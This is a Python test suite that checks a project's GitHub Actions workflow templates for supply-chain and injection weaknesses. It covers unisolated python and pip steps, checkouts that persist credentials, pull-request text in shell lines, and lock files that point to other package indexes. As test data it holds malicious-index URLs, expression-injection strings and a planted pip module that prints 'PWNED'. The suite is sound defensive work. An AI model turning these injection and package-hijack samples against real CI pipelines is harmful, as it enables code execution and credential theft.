"""Every workflow this project ships or `init` scaffolds, parsed and checked for what would
let the change it judges run code or steer it:

- a `python`/`pip` step that could import from the checkout: a bare `pip`, a `python` without
  `-I` (isolated: no working directory, no PYTHON* variables on sys.path), an install of
  anything but a pinned release as wheels (a path, `-e`, `-r`, a URL would run the checkout's
  build code), or an install started inside the checkout;
- a checkout that keeps credentials on disk (`persist-credentials` not false), named as the
  worse case when the job can push (`contents: write`);
- PR-controlled text in a `run:` line (any `${{ }}` at all: values go through `env:`), and in
  `env:` any event field other than the PR's number and commit shas.

Each check is also run on a broken copy to show it catches what it claims.
"""

from __future__ import annotations

import copy
import re
import shlex
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from conftest import PROJECT_ROOT
from ruamel.yaml import YAML

from modelops_gitops.repo.scaffold import scaffold_files

Workflow = dict[str, Any]
TEMPLATES = resources.files("modelops_gitops") / "templates" / "workflows"
PINNED = re.compile(r"^[A-Za-z0-9_.-]+(\[[a-z0-9,-]+\])?==[0-9][0-9A-Za-z.+!-]*$")  # extras allowed
SAFE_EVENT_VALUES = {
    "${{ github.event.pull_request.number }}",
    "${{ github.event.pull_request.base.sha }}",
    "${{ github.event.pull_request.head.sha }}",
}
OUTSIDE_CHECKOUT = "${{ runner.temp }}"
PYTHON = re.compile(r"^(?:.*/)?python(?:3(?:\.\d+)?)?$")
PIP = re.compile(r"^(?:.*/)?pip(?:3(?:\.\d+)?)?$")
INTERPRETER_VARS = {"$MODELOPS"}  # env values that name an interpreter (checked below)


def parse(text: str) -> Workflow:
    data = YAML(typ="safe", pure=True).load(text)
    assert isinstance(data, dict)
    return data


def shipped() -> Iterator[tuple[str, Workflow]]:
    for node in sorted(TEMPLATES.iterdir(), key=lambda n: n.name):
        if node.name.endswith(".yml"):
            yield f"templates/workflows/{node.name}", parse(node.read_text(encoding="utf-8"))
    for path in sorted((PROJECT_ROOT / ".github" / "workflows").glob("*.y*ml")):
        yield f".github/workflows/{path.name}", parse(path.read_text(encoding="utf-8"))
    for rel, data in sorted(scaffold_files(owner="acme", name="models").items()):
        if rel.startswith(".github/workflows/"):
            yield f"init: {rel}", parse(data.decode())


ALL = list(shipped())


def commands(script: str) -> Iterator[list[str]]:
    """The simple commands of a shell script: words split by shlex, cut at ; | && ||,
    leading VAR=value assignments dropped."""
    for line in script.splitlines():
        lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|()")
        lexer.whitespace_split = True
        words: list[str] = []
        for token in [*lexer, ";"]:
            if token and set(token) <= set(";&|()"):
                while words and re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", words[0]):
                    words.pop(0)
                if words:
                    yield words
                words = []
            else:
                words.append(token)


def _program(word: str, env: dict[str, str]) -> str:
    if word in INTERPRETER_VARS:
        value = env.get(word[1:], "")
        return value.rsplit("/", 1)[-1] if value else word
    return word


def python_problems(step: dict[str, Any], env: dict[str, str]) -> list[str]:
    out = []
    for words in commands(str(step.get("run", ""))):
        program = _program(words[0], env)
        if PIP.match(program):
            out.append(f"`{' '.join(words)}`: run pip as `python -I -m pip`")
        if not PYTHON.match(program):
            continue
        if len(words) < 2 or words[1] != "-I":
            out.append(f"`{' '.join(words)}`: python without -I imports from the working directory")
            continue
        if words[2:4] == ["-m", "pip"] and "install" in words:
            out += _install_problems(words[words.index("install") + 1 :], step)
    return out


LOCK_FETCH = 'git -C "$GITHUB_WORKSPACE" show "$LOCK_REV:.github/modelops-gitops.lock" > modelops-gitops.lock'
LOCK_REVS = {"${{ github.event.pull_request.base.sha }}", "HEAD"}


def _lock_install_problems(args: list[str], step: dict[str, Any]) -> list[str]:
    """`pip install --no-deps -r modelops-gitops.lock`: the lock (checked by lock_problems),
    read from git at the base commit or HEAD by the same step, outside the checkout."""
    out = []
    if args.count("-r") != 1 or args[args.index("-r") + 1 :] != ["modelops-gitops.lock"]:
        out.append("pip install -r: only the lock, as the last argument")
    if "--no-deps" not in args:
        out.append("pip install -r modelops-gitops.lock: add --no-deps (the tool alone)")
    if LOCK_FETCH not in str(step.get("run", "")).splitlines():
        out.append("the lock must be read from git in the same step: " + LOCK_FETCH)
    if (step.get("env") or {}).get("LOCK_REV") not in LOCK_REVS:
        out.append("LOCK_REV: the base commit or HEAD, never the pull request's head")
    return out


LOCK_LINE = re.compile(
    r"^modelops-gitops\[gates,github\]"
    r"(==[0-9][0-9A-Za-z.+!-]*"
    r"| @ git\+https://[A-Za-z0-9.-]+/[A-Za-z0-9._~/-]+@[0-9a-f]{40}"
    r"| @ (https://[A-Za-z0-9.-]+/|file://\$\{GITHUB_WORKSPACE\}/\.github/modelops-gitops/)"
    r"[A-Za-z0-9._~%/+-]+\.whl --hash=sha256:[0-9a-f]{64})$"
)


def lock_problems(text: str) -> list[str]:
    """A lock names one requirement: a pinned release, a git commit, or a wheel with its
    hash (then --require-hashes); no other option (an index URL, find-links, ...)."""
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    options = [line for line in lines if line.startswith("-")]
    requirements = [line for line in lines if not line.startswith("-")]
    out = [
        f"lock option {o}: not allowed"
        for o in options
        if o not in {"--require-hashes", "--only-binary=:all:"}
    ]
    if len(requirements) != 1 or not LOCK_LINE.match(requirements[0]):
        out.append(f"lock: expected one pinned modelops-gitops requirement, got {requirements}")
    elif "--hash=" in requirements[0] and "--require-hashes" not in options:
        out.append("lock: a wheel's hash must come with --require-hashes")
    return out


def _install_problems(args: list[str], step: dict[str, Any]) -> list[str]:
    out = []
    if "-r" in args:
        out += _lock_install_problems(args, step)
        args = [a for a in args if a not in {"-r", "modelops-gitops.lock", "--no-deps"}]
        if step.get("working-directory") != OUTSIDE_CHECKOUT:
            out.append(
                "pip install runs inside the checkout: set working-directory: ${{ runner.temp }}"
            )
        return out + [p for p in _option_problems(args) if "only pinned" in p]
    if step.get("working-directory") != OUTSIDE_CHECKOUT:
        out.append(
            "pip install runs inside the checkout: set working-directory: ${{ runner.temp }}"
        )
    if "--only-binary=:all:" not in args:
        out.append("pip install may build a source distribution: add --only-binary=:all:")
    return out + _option_problems(args)


def _option_problems(args: list[str]) -> list[str]:
    out = []
    for arg in args:
        if arg.startswith("-"):
            if arg.split("=")[0] in {
                "-e",
                "--editable",
                "-r",
                "--requirement",
                "-c",
                "-f",
                "--find-links",
                "--index-url",
                "-i",
                "--extra-index-url",
            }:
                out.append(f"pip install {arg}: only pinned releases from the index")
        elif not PINNED.match(arg):
            out.append(f"pip install {arg}: not a pinned release (NAME==VERSION)")
    return out


def checkout_problems(job: dict[str, Any]) -> list[str]:
    out = []
    can_push = (job.get("permissions") or {}).get("contents") == "write"
    for step in job.get("steps", []):
        checkout = str(step.get("uses", "")).startswith("actions/checkout@")
        if checkout and (step.get("with") or {}).get("persist-credentials") is not False:
            where = "a job that can push" if can_push else "a job"
            out.append(f"the checkout of {where} persists credentials in .git/config")
    return out


def pr_text_problems(step: dict[str, Any]) -> list[str]:
    out = []
    if "${{" in str(step.get("run", "")):
        out.append("run: holds an expression; pass values through env:")
    directory = str(step.get("working-directory", ""))
    if "${{" in directory and directory != OUTSIDE_CHECKOUT:
        out.append("working-directory: holds an expression other than ${{ runner.temp }}")
    for name, value in (step.get("env") or {}).items():
        text = str(value)
        event = re.findall(r"\$\{\{[^}]*\}\}", text)
        for expression in event:
            if ("github.event" in expression or "github.head_ref" in expression) and (
                expression not in SAFE_EVENT_VALUES
            ):
                out.append(f"env {name}: {expression} is PR-controlled text")
    return out


def problems(workflow: Workflow) -> list[str]:
    out = []
    for job in workflow["jobs"].values():
        out += checkout_problems(job)
        env = {k: str(v) for k, v in (workflow.get("env") or {}).items()}
        for step in job.get("steps", []):
            step_env = env | {k: str(v) for k, v in (step.get("env") or {}).items()}
            out += python_problems(step, step_env)
            out += pr_text_problems(step)
    return out


@pytest.mark.parametrize(("name", "workflow"), ALL, ids=[n for n, _ in ALL])
def test_no_shipped_or_scaffolded_workflow_runs_or_trusts_the_checkout(
    name: str, workflow: Workflow
) -> None:
    assert problems(workflow) == [], name


def test_every_kind_of_workflow_is_checked() -> None:
    names = [n for n, _ in ALL]
    assert len(names) == 13  # 4 templates, the project's 4 copies + release.yml, the 4 init writes


def _plan() -> Workflow:
    return copy.deepcopy(dict(ALL)["templates/workflows/plan.yml"])


def _apply() -> Workflow:
    return copy.deepcopy(dict(ALL)["templates/workflows/apply.yml"])


def _step(workflow: Workflow, needle: str) -> dict[str, Any]:
    [job] = workflow["jobs"].values()
    [found] = [s for s in job["steps"] if needle in str(s.get("run", s.get("uses", "")))]
    assert isinstance(found, dict)
    return found


@pytest.mark.parametrize(
    ("run", "expected"),
    [
        ("python -m pip install modelops-gitops==0.1.0", "python without -I"),
        ("pip install modelops-gitops==0.1.0", "run pip as"),
        ("python -I -m pip install --only-binary=:all: .", "not a pinned release"),
        ("python -I -m pip install --only-binary=:all: -e .", "only pinned releases"),
        ("python -I -m pip install --only-binary=:all: -r requirements.txt", "only the lock"),
        ("python -I -m pip install -r modelops-gitops.lock", "add --no-deps"),
        (
            "python -I -m pip install --no-deps --index-url https://evil -r modelops-gitops.lock",
            "only pinned",
        ),
        ("python -I -m pip install modelops-gitops==0.1.0", "--only-binary"),
        ("python -I -m pip install --only-binary=:all: modelops-gitops", "not a pinned"),
        ("cd x && python tool.py", "python without -I"),
    ],
)
def test_the_check_catches_a_step_that_could_import_from_the_checkout(
    run: str, expected: str
) -> None:
    workflow = _plan()
    _step(workflow, "pip install")["run"] = run
    assert any(expected in p for p in problems(workflow)), problems(workflow)


def test_the_check_catches_an_install_started_in_the_checkout() -> None:
    workflow = _plan()
    del _step(workflow, "pip install")["working-directory"]
    assert any("inside the checkout" in p for p in problems(workflow))


def test_the_check_catches_the_tool_started_without_isolation() -> None:
    workflow = _plan()
    step = _step(workflow, "modelops_gitops plan")
    step["run"] = step["run"].replace('"$MODELOPS" -I -m', '"$MODELOPS" -m')
    assert any("without -I" in p for p in problems(workflow))


def test_the_check_catches_a_push_capable_checkout_that_persists_credentials() -> None:
    workflow = _apply()
    del _step(workflow, "actions/checkout@")["with"]["persist-credentials"]
    assert problems(workflow) == [
        "the checkout of a job that can push persists credentials in .git/config"
    ]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("run", 'echo "${{ github.event.pull_request.title }}"'),
        ("run", "git log ${{ github.head_ref }}"),
        ("env", "${{ github.event.pull_request.body }}"),
        ("env", "${{ github.event.review.body }}"),
        ("env", "${{ github.head_ref }}"),
    ],
)
def test_the_check_catches_pr_controlled_text(key: str, value: str) -> None:
    workflow = _plan()
    step = _step(workflow, "modelops_gitops plan")
    if key == "run":
        step["run"] = value
    else:
        step["env"]["TITLE"] = value
    assert any("PR-controlled" in p or "holds an expression" in p for p in problems(workflow))


def test_the_apply_push_gets_its_credentials_from_the_environment_only() -> None:
    step = _step(_apply(), "apply --push")
    assert "GIT_CONFIG_VALUE_0" in step["run"]
    assert "::add-mask::" in step["run"]
    assert "git config" not in step["run"]  # nothing written to .git/config


def test_the_project_root_has_no_code_a_workflow_would_run(tmp_path: Path) -> None:
    """The attack the checks stop: a PR adding pip/__main__.py. With -I started from the
    checkout, `python -I -m pip --version` is the real pip, not the PR's."""
    import subprocess
    import sys

    (tmp_path / "pip").mkdir()
    (tmp_path / "pip" / "__init__.py").write_text("", encoding="utf-8")
    (tmp_path / "pip" / "__main__.py").write_text("print('PWNED')\n", encoding="utf-8")
    plain = subprocess.run(
        [sys.executable, "-m", "pip", "--version"], cwd=tmp_path, capture_output=True, text=True
    )
    isolated = subprocess.run(
        [sys.executable, "-I", "-m", "pip", "--version"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert "PWNED" in plain.stdout  # the attack works without -I
    assert "PWNED" not in isolated.stdout
    assert isolated.stdout.startswith("pip ")


# -- the lock the workflows install from (init --install-from) ------------------------------


def _locks() -> dict[str, str]:
    from modelops_gitops import __version__
    from modelops_gitops.repo.install_source import parse_source

    wheel = f"modelops_gitops-{__version__}-py3-none-any.whl"
    sources = {
        "index": parse_source("index", __version__),
        "git": parse_source(f"git+https://github.com/acme/modelops-gitops@{'a' * 40}", __version__),
        "wheel": parse_source(f"dist/{wheel}", __version__, b"wheel bytes"),
        "url": parse_source(f"https://example.com/w/{wheel}#sha256={'b' * 64}", __version__),
    }
    return {kind: source.lock() for kind, source in sources.items()}


@pytest.mark.parametrize("kind", ["index", "git", "wheel", "url"])
def test_every_lock_init_can_write_passes_the_lock_check(kind: str) -> None:
    assert lock_problems(_locks()[kind]) == []


def test_the_project_and_init_write_the_same_lock() -> None:
    scaffolded = scaffold_files(owner="acme", name="models")[".github/modelops-gitops.lock"]
    project = (PROJECT_ROOT / ".github" / "modelops-gitops.lock").read_bytes()
    assert project == scaffolded
    assert lock_problems(project.decode()) == []


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda t: t + "--index-url https://evil.example/simple\n", "not allowed"),
        (lambda t: t + "--extra-index-url https://evil.example/simple\n", "not allowed"),
        (lambda t: t + "--find-links https://evil.example/\n", "not allowed"),
        (lambda t: t.replace("==0.1.0", ""), "one pinned"),
        (lambda t: t + "evil-package==1.0\n", "one pinned"),
        (lambda t: t.replace("==0.1.0", " @ git+https://github.com/acme/x@main"), "one pinned"),
    ],
)
def test_the_lock_check_catches_a_lock_that_could_install_something_else(
    edit: Any, expected: str
) -> None:
    text = edit(_locks()["index"])
    assert any(expected in p for p in lock_problems(text)), lock_problems(text)


def test_the_lock_check_wants_hashes_required_with_a_wheel() -> None:
    text = _locks()["wheel"].replace("--require-hashes\n", "")
    assert "lock: a wheel's hash must come with --require-hashes" in lock_problems(text)


def test_the_check_catches_a_lock_read_from_the_pull_request() -> None:
    workflow = _plan()
    _step(workflow, "pip install")["env"]["LOCK_REV"] = "${{ github.event.pull_request.head.sha }}"
    assert any("never the pull request's head" in p for p in problems(workflow))
